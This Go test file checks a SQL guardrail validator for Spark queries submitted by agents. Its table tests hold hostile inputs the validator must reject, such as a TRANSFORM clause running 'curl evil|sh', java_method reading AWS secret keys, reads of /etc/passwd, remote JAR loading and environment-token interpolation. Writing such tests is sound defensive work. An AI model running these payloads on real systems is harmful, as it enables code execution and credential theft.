package guardrails

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sdp-mcp/sdp-mcp/guardrails/sqlscan"
)

// opts is the policy the table tests run under: dev.s is the pipeline's own
// schema, spark_catalog.samples is a read-only source.
var opts = CheckOptions{
	AllowedSources: []string{"spark_catalog.samples.*", "dev.s.*"},
	DefaultCatalog: "dev",
	DefaultSchema:  "s",
	Datasets:       []string{"orders_clean", "events_st"},
}

func rules(fs []Finding) []string {
	out := []string{}
	for _, f := range fs {
		if !slices.Contains(out, f.Rule) {
			out = append(out, f.Rule)
		}
	}
	slices.Sort(out)
	return out
}

// TestChecklist covers every case of guardrails.md §8 that a static check of
// a body can decide (items 1-50, 52-54, 58, 59), plus the hygiene rules.
func TestChecklist(t *testing.T) {
	stream := opts
	stream.AllowStream = true
	tests := []struct {
		item string
		body string
		opts *CheckOptions
		want []string // distinct rule ids; empty means accepted
	}{
		{"1", "DROP TABLE dev.s.t", nil, []string{RuleNotQuery}},
		{"2", "SELECT 1; DROP TABLE t", nil, []string{RuleSemicolon, RuleStatement}},
		{"3", "SELECT 1;", nil, []string{RuleSemicolon}},
		{"4", "SELECT 1) AS x, (SELECT 2", nil, []string{RuleParenUnbalanced}},
		{"5", "SELECT * FROM t --", nil, nil},
		{"6", "SELECT 1 -- c \\\n, 2", nil, []string{RuleCommentContinuation}},
		{"7", "SELECT 1 /* unclosed", nil, []string{RuleUnclosedComment}},
		{"8", "SELECT /* a /* b */ reflect('x','y') */ 1", nil, nil},
		{"9", "SELECT /*+ REPARTITION(100000) */ * FROM t", nil, []string{RuleHint}},
		{"10 set", "SET spark.sql.runSQLOnFiles=true", nil, []string{RuleNotQuery}},
		{"10 reset", "RESET", nil, []string{RuleNotQuery}},
		{"11", "ADD JAR 'ivy://org.evil:x:1.0'", nil, []string{RuleNotQuery}},
		{"12", "CREATE TEMPORARY FUNCTION f AS 'a.B' USING JAR '/opt/x.jar'", nil, []string{RuleNotQuery}},
		{"13", "EXECUTE IMMEDIATE 'DROP TABLE t'", nil, []string{RuleNotQuery}},
		{"14", "BEGIN DROP TABLE t; END", nil, []string{RuleNotQuery, RuleSemicolon, RuleStatement}},
		{"15", "INSERT OVERWRITE LOCAL DIRECTORY '/opt/x' SELECT 1", nil, []string{RuleNotQuery}},
		{"16", "LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE t", nil, []string{RuleNotQuery}},
		{"17 cache", "CACHE TABLE t", nil, []string{RuleNotQuery}},
		{"17 clear", "CLEAR CACHE", nil, []string{RuleNotQuery}},
		{"17 msck", "MSCK REPAIR TABLE t", nil, []string{RuleNotQuery}},
		{"17 refresh", "REFRESH TABLE t", nil, []string{RuleNotQuery}},
		{"18", "CREATE TEMP VIEW orders AS SELECT * FROM prod.hr.salaries", nil, []string{RuleNotQuery, RuleScopeRead}},
		{"19", "USE CATALOG prod", nil, []string{RuleNotQuery}},
		{"20", "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", nil, []string{RuleStatement}},
		{"21", "FROM src INSERT INTO t SELECT *", nil, []string{RuleStatement}},
		{"22 explain", "EXPLAIN SELECT 1", nil, []string{RuleNotQuery}},
		{"22 describe", "DESCRIBE t", nil, []string{RuleNotQuery}},
		{"22 show", "SHOW TABLES", nil, []string{RuleNotQuery}},
		{"23", "CALL cat.system.remove_orphan_files(table => 't')", nil, []string{RuleNotQuery, RuleFunctionUnknown}},
		{"24", "ſet spark.sql.runSQLOnFiles=true", nil, []string{RuleNonASCII, RuleNotQuery}},
		{"25", "SELECT TRANſFORM(a) uſing 'id' FROM t", nil, []string{RuleNonASCII, RuleScriptTransform, RuleFunctionUnknown}},
		{"26 nbsp", "SELECT 1\u00a0FROM t", nil, []string{RuleNonASCII}},
		{"26 u2029", "SELECT 1\u2029FROM t", nil, []string{RuleNonASCII}},
		{"26 u0085", "SELECT 1\u0085FROM t", nil, []string{RuleControlChar}},
		{"26 zero width space", "SELECT 1\u200bFROM t", nil, []string{RuleControlChar}},
		{"27 nul", "SELECT 1\x00FROM t", nil, []string{RuleControlChar}},
		{"27 escape", "SELECT 1 \x1b[2J FROM t", nil, []string{RuleControlChar}},
		{"27 invalid utf8", "SELECT '\xff\xfe' FROM t", nil, []string{RuleUTF8}},
		{"28", strings.Repeat("x", 64<<10+1), nil, []string{RuleTooLarge}},
		{"29", strings.Repeat("(", 10000) + "SELECT 1" + strings.Repeat(")", 10000), nil, []string{RuleParenDepth}},
		{"30", `SELECT "a" FROM t`, nil, nil},
		{"31", `SELECT r'\' FROM t`, nil, nil},
		{"32", "SELECT reflect('java.lang.System','exit',0)", nil, []string{RuleFunctionDenied}},
		{"33", "SELECT java_method('java.lang.System','getenv','AWS_SECRET_ACCESS_KEY')", nil, []string{RuleFunctionDenied}},
		{"34 backquoted", "SELECT `ReFlEcT` /*x*/ ('a','b')", nil, []string{RuleFunctionDenied}},
		{"34 system.builtin", "SELECT system.builtin.try_reflect('a', 'b')", nil, []string{RuleFunctionDenied}},
		{"34 builtin", "SELECT builtin.java_method('a', 'b')", nil, []string{RuleFunctionDenied}},
		{"35", `SELECT TRANSFORM(a) USING 'sh -c "curl evil|sh"' FROM t`, nil, []string{RuleScriptTransform}},
		{"36 map", "FROM t MAP a USING 'cat'", nil, []string{RuleScriptTransform}},
		{"36 reduce", "FROM t REDUCE a USING 'cat'", nil, []string{RuleScriptTransform}},
		{"36 recordwriter", "SELECT TRANSFORM(a) ROW FORMAT DELIMITED RECORDWRITER 'x.Y' USING 'cat' FROM t", nil, []string{RuleScriptTransform}},
		{"37", "SELECT transform(arr, x -> x + 1) FROM t", nil, nil},
		{"38 env", "SELECT '${env:SPARK_CONNECT_AUTHENTICATE_TOKEN}'", nil, []string{RuleVariable}},
		{"38 system", "SELECT '${system:user.home}'", nil, []string{RuleVariable}},
		{"38 conf", "SELECT ${spark.hadoop.fs.s3a.secret.key}", nil, []string{RuleVariable}},
		{"38 in comment", "SELECT 1 -- ${x}\n", nil, []string{RuleVariable}},
		{"39", "SELECT my_udf(x) FROM t", nil, []string{RuleFunctionUnknown}},
		{"39 catalog function", "SELECT cat.db.f(x) FROM t", nil, []string{RuleFunctionUnknown}},
		{"40", "SELECT * FROM IDENTIFIER('prod.hr.salaries')", nil, []string{RuleIdentifierClause}},
		{"41", "SELECT * FROM parquet.`/etc/passwd`", nil, []string{RulePathRead}},
		{"42 quoted", "SELECT * FROM text.`file:///etc/passwd`", nil, []string{RulePathRead}},
		{"42 unquoted", "SELECT * FROM text.file:///etc/passwd", nil, []string{RulePathRead}},
		{"43 s3", "SELECT * FROM json.`s3a://other-bucket/`", nil, []string{RulePathRead}},
		{"43 delta", "SELECT * FROM delta.`/mnt/prod/x`", nil, []string{RulePathRead}},
		{"43 glob", "SELECT * FROM binaryFile.`//etc/*.conf`", nil, []string{RulePathRead}},
		{"44 read_files", "SELECT * FROM read_files('/x')", nil, []string{RuleTableFunction}},
		{"44 cloud_files", "SELECT * FROM cloud_files('/x', 'json')", nil, []string{RuleTableFunction}},
		{"44 read_kafka", "SELECT * FROM read_kafka(bootstrapServers => 'h:9092')", nil, []string{RuleTableFunction}},
		{"44 json_table (not in Spark 4.3)", "SELECT * FROM json_table(t.j, '$.a') jt, t", nil, []string{RuleTableFunction}},
		{"45", "SELECT * FROM prod.finance.salaries", nil, []string{RuleScopeRead}},
		{"46 backquoted", "SELECT * FROM `prod`.`finance`.`salaries`", nil, []string{RuleScopeRead}},
		{"46 case", "SELECT * FROM PROD.Finance.SALARIES", nil, []string{RuleScopeRead}},
		{"47", "SELECT * FROM dev.s.a JOIN prod.s.b USING (id)", nil, []string{RuleScopeRead}},
		{"48 in", "SELECT * FROM dev.s.a WHERE id IN (SELECT id FROM prod.s.b)", nil, []string{RuleScopeRead}},
		{"48 exists", "SELECT * FROM dev.s.a WHERE EXISTS(SELECT 1 FROM prod.s.b)", nil, []string{RuleScopeRead}},
		{"49", "WITH prod_b AS (SELECT 1 AS id) SELECT * FROM prod_b", nil, nil},
		{"50", "SELECT EXTRACT(YEAR FROM ts), TRIM(BOTH 'x' FROM s) FROM dev.s.a", nil, nil},
		{"52 options", "SELECT * FROM dev.s.a WITH ('path'='/etc')", nil, []string{RuleTableOptions}},
		{"52 version", "SELECT * FROM dev.s.a VERSION AS OF 1", nil, []string{RuleTimeTravel}},
		{"52 at version", "SELECT * FROM dev.s.a@v1", nil, []string{RuleTimeTravel}},
		{"53", "SELECT * FROM global_temp.x", nil, []string{RuleGlobalTemp, RuleScopeRead}},
		{"54 materialized view", "SELECT * FROM STREAM(dev.s.events)", nil, []string{RuleStream}},
		{"54 streaming table", "SELECT * FROM STREAM(dev.s.events)", &stream, nil},
		{"58", "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 9) SELECT * FROM r", nil, []string{RuleRecursiveCTE}},
		{"59", "SELECT * FROM t LIMIT 100000000", nil, nil},

		// hygiene beyond §8
		{"empty", "", nil, []string{RuleEmpty}},
		{"only a comment", "  -- nothing\n/* here */", nil, []string{RuleEmpty}},
		{"positional parameter", "SELECT * FROM t WHERE a = ?", nil, []string{RuleParameter}},
		{"named parameter", "SELECT * FROM t WHERE a = :p", nil, []string{RuleParameter}},
		{"variant path is not a parameter", "SELECT v:a.b FROM t", nil, nil},
		{"invalid character", "SELECT # FROM t", nil, []string{RuleInvalidChar}},
		{"unclosed string", "SELECT 'abc FROM t", nil, []string{RuleUnclosedString}},
		{"unclosed identifier", "SELECT `abc FROM t", nil, []string{RuleUnclosedIdentifier}},
		{"unclosed hint", "SELECT /*+ x", nil, []string{RuleUnclosedHint, RuleHint}},
		{"unclosed paren", "SELECT (1", nil, []string{RuleParenUnbalanced}},
		{"bidi override in string", "SELECT 'abc\u202edef'", nil, []string{RuleControlChar}},
		{"non-ascii in string is fine", "SELECT 'naïve café ✓', `naïve` FROM t", nil, nil},
		{"non-ascii in comment", "SELECT 1 -- café\n", nil, []string{RuleNonASCII}},
		{"non-ascii identifier", "SELECT naïve FROM t", nil, []string{RuleNonASCII}},
		{"typographic quote", "SELECT ‘x’ FROM t", nil, []string{RuleNonASCII}},
		{"dollar quoted string", "SELECT $$x$$", nil, nil},
		{"delete", "WITH x AS (SELECT 1) DELETE FROM t", nil, []string{RuleStatement}},
		{"merge", "WITH x AS (SELECT 1) MERGE INTO t USING x ON true WHEN MATCHED THEN DELETE", nil, []string{RuleStatement}},
		{"changes", "SELECT * FROM dev.s.a CHANGES FROM VERSION 1", nil, []string{RuleChanges}},
		{"drop in subquery", "SELECT * FROM t UNION ALL (DROP TABLE u)", nil, []string{RuleStatement}},
		{"create in subquery", "SELECT * FROM (CREATE OR REPLACE VIEW v AS SELECT 1)", nil, []string{RuleStatement}},
		{"add jar in subquery", "SELECT * FROM (ADD JAR 'x.jar')", nil, []string{RuleStatement}},
		{"execute immediate in subquery", "SELECT (EXECUTE IMMEDIATE 'x')", nil, []string{RuleStatement}},
		{"keyword-named columns", "SELECT delete, comment, create AS c, list, add FROM t", nil, nil},
		{"four part name", "SELECT * FROM a.b.c.d", nil, []string{RuleScopeName}},
		{"empty name part", "SELECT * FROM ``.x", nil, []string{RuleScopeName}},

		// allowed reads
		{"dataset one part", "SELECT * FROM orders_clean", nil, nil},
		{"dataset qualified", "SELECT * FROM dev.s.ORDERS_CLEAN o JOIN spark_catalog.samples.orders s ON o.id = s.id", nil, nil},
		{"dataset stream", "SELECT * FROM STREAM(events_st)", &stream, nil},
		{"allowed two part", "SELECT * FROM s.t", nil, nil},
		{"table functions", "SELECT * FROM range(10) r, t LATERAL VIEW explode(t.arr) e AS x", nil, nil},
		{"builtin qualified", "SELECT system.builtin.upper(x), builtin.abs(-1), try_cast(y AS INT), timestampadd(DAY, 1, ts) FROM t", nil, nil},
		{"a realistic query", `WITH recent AS (
  SELECT o.order_id, o.customer_id, o.amount
  FROM spark_catalog.samples.orders AS o
  WHERE o.ts >= current_date() - INTERVAL 30 DAYS
)
SELECT r.customer_id, sum(r.amount) AS revenue, count(DISTINCT r.order_id) AS n
FROM recent r
LEFT JOIN orders_clean c ON c.order_id = r.order_id
WHERE c.order_id IS NULL
GROUP BY r.customer_id
HAVING sum(r.amount) > 100
ORDER BY revenue DESC`, nil, nil},
	}
	for _, tc := range tests {
		t.Run(tc.item, func(t *testing.T) {
			o := opts
			if tc.opts != nil {
				o = *tc.opts
			}
			got := CheckBody(tc.body, o)
			want := tc.want
			if want == nil {
				want = []string{}
			}
			slices.Sort(want)
			if diff := cmp.Diff(want, rules(got)); diff != "" {
				t.Errorf("CheckBody(%q) rules (-want +got):\n%s\n%s", shorten(tc.body), diff, Format(got))
			}
			checkFindingShape(t, tc.body, got)
		})
	}
}

// checkFindingShape asserts what every finding must carry for an agent.
func checkFindingShape(t *testing.T, body string, fs []Finding) {
	t.Helper()
	for _, f := range fs {
		if f.Message == "" || f.Hint == "" || f.Rule == "" {
			t.Errorf("finding without rule, message or hint: %+v", f)
		}
		if f.Start.Line < 1 || f.Start.Col < 1 || f.End.Offset < f.Start.Offset || int(f.End.Offset) > len(body) {
			t.Errorf("finding %s has a bad span %v-%v", f.Rule, f.Start, f.End)
		}
	}
	for i := 1; i < len(fs); i++ {
		if fs[i].Start.Offset < fs[i-1].Start.Offset {
			t.Errorf("findings out of order: %v before %v", fs[i-1], fs[i])
		}
	}
}

// TestShapeKeywords checks that checkShape looks at every keyword the
// statement and construct rules know: a pair starting with any other
// keyword must give nothing.
func TestShapeKeywords(t *testing.T) {
	kws := sqlscan.Keywords()
	for i, w := range kws {
		if id := sqlscan.KeywordIDOf(w); id != i+1 {
			t.Fatalf("KeywordIDOf(%s) = %d, want %d", w, id, i+1)
		}
	}
	for _, w := range shapeWords {
		if sqlscan.KeywordIDOf(w) == 0 {
			t.Errorf("shape word %s is not a keyword", w)
		}
	}
	toks := func(s string) []sqlscan.Token {
		ts, err := sqlscan.Tokenize(s)
		if err != nil {
			t.Fatal(err)
		}
		return ts
	}
	for _, w := range kws {
		if shapeKeywords[sqlscan.KeywordIDOf(w)] {
			continue
		}
		for _, next := range append(slices.Clone(kws), "'x'", "(", "jar") {
			ts := toks(w + " " + next)
			c := newCollector(w + " " + next)
			if s := embeddedStatement(ts[0].Keyword(), ts[1].Keyword(), &ts[1]); s != "" {
				t.Fatalf("%s %s is a statement (%s) but %s is not in shapeWords", w, next, s, w)
			}
			checkConstruct(c, ts[0].Keyword(), ts[1].Keyword(), &ts[0], &ts[1])
			if len(c.findings) > 0 {
				t.Fatalf("%s %s is refused (%s) but %s is not in shapeWords", w, next, c.findings[0].Rule, w)
			}
		}
	}
}
